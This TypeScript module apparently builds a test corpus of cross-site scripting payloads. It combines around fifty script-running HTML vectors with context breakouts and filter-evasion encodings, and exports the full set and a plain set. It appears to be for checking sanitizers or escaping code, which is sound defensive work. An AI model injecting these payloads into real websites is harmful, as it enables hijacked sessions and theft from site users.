/** Texts that run as scripts wherever they are taken for HTML: known vectors x places to break out of x spellings, by rule. */

/** What a payload runs; the tests count every call of these. */
const ACTIONS = ['hit(1)', 'alert(1)'];

/** Ways to run `JS` from markup. */
const VECTORS = [
  '<script>JS</script>',
  '<script src="data:text/javascript,JS"></script>',
  '<script type=module>JS</script>',
  '<img src=x onerror=JS>',
  '<img src=x: onerror="JS" alt="">',
  '<image src=x onerror=JS>',
  '<svg onload=JS>',
  '<svg><script>JS</script></svg>',
  '<svg><animate onbegin=JS attributeName=x dur=1s>',
  '<svg><set onbegin=JS attributeName=x>',
  '<svg><a xlink:href="javascript:JS"><text y=20>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=JS>#x"/></svg>',
  '<svg><foreignObject><body onload=JS></foreignObject></svg>',
  '<math href="javascript:JS">x</math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;">',
  '<body onload=JS>',
  '<body onpageshow=JS>',
  '<iframe src="javascript:JS"></iframe>',
  '<iframe srcdoc="<script>parent.JS</script>"></iframe>',
  '<iframe onload=JS></iframe>',
  '<object data="javascript:JS"></object>',
  '<object data="data:text/html,<script>JS</script>"></object>',
  '<embed src="javascript:JS">',
  '<a href="javascript:JS" autofocus onfocus=JS>x</a>',
  '<a href="data:text/html,<script>JS</script>">x</a>',
  '<form action="javascript:JS"><input type=submit autofocus></form>',
  '<form><button formaction="javascript:JS">x</button></form>',
  '<input autofocus onfocus=JS>',
  '<input type=image src=x onerror=JS>',
  '<select autofocus onfocus=JS></select>',
  '<textarea autofocus onfocus=JS></textarea>',
  '<keygen autofocus onfocus=JS>',
  '<video src=x onerror=JS></video>',
  '<video><source onerror=JS></video>',
  '<audio src=x onerror=JS></audio>',
  '<details open ontoggle=JS>',
  '<marquee onstart=JS>',
  '<div style="animation:x 1s" onanimationstart=JS></div>',
  '<div style="width:expression(JS)">',
  '<style>@import "javascript:JS";</style>',
  '<style onload=JS></style>',
  '<link rel=stylesheet href=x onerror=JS>',
  '<link rel=import href="data:text/html,<script>JS</script>">',
  '<meta http-equiv=refresh content="0;url=javascript:JS">',
  '<base href="javascript:JS//">',
  '<template><script>JS</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=JS>">',
  '<xss contenteditable autofocus onfocus=JS>x</xss>',
  '<p popover id=x onbeforetoggle=JS><button popovertarget=x autofocus>x</button>',
  '<table background="javascript:JS">',
  'javascript:JS',
  '{{constructor.constructor("JS")()}}',
  '${JS}',
];

/** What a payload breaks out of. */
const PLACES: [string, string][] = [
  ['', ''],
  ['">', '<"'],
  ["'>", "<'"],
  ['</p>', ''],
  ['</textarea>', ''],
  ['</title>', ''],
  ['</script>', ''],
  ['</style>', ''],
  ['-->', '<!--'],
  [']]>', '<![CDATA['],
  ['<!--><', ''],
  ['`>', '`'],
];

const entities = (text: string, write: (code: number) => string) => [...text].map((c) => (/[<>"'=()]/.test(c) ? write(c.codePointAt(0) ?? 0) : c)).join('');

/** How a payload may be spelt. */
const SPELLINGS: ((text: string) => string)[] = [
  (text) => text,
  (text) => text.replace(/<(\/?)([a-z]+)/gi, (_, slash: string, name: string) => `<${slash}${name.toUpperCase()}`),
  (text) => text.replace(/ on([a-z])/g, (_, letter: string) => ` oN${letter.toUpperCase()}`),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t\n'),
  (text) => text.replaceAll('javascript:', 'java\tscript\n:').replaceAll('=', ' = '),
  (text) => entities(text, (code) => `&#${code};`),
  (text) => entities(text, (code) => `&#x${code.toString(16)}`),
  (text) => encodeURIComponent(text),
  (text) => entities(text, (code) => `\\u00${code.toString(16)}`),
  (text) => text.replaceAll('<', '\u{ff1c}').replaceAll('>', '\u{ff1e}'),
  (text) => `\u202e\u200b${text.replaceAll('<', '<\u0000')}`,
];

/** Every payload, each once. */
export function payloads(): string[] {
  const all = VECTORS.flatMap((vector) =>
    ACTIONS.flatMap((action) =>
      PLACES.flatMap(([before, after]) => SPELLINGS.map((spell) => spell(before + vector.replaceAll('JS', action) + after))),
    ),
  );
  return [...new Set(all)];
}

/** The payloads as they are known best: nothing to break out of, nothing spelt otherwise. */
export function plainPayloads(): string[] {
  return VECTORS.map((vector) => vector.replaceAll('JS', 'hit(1)'));
}
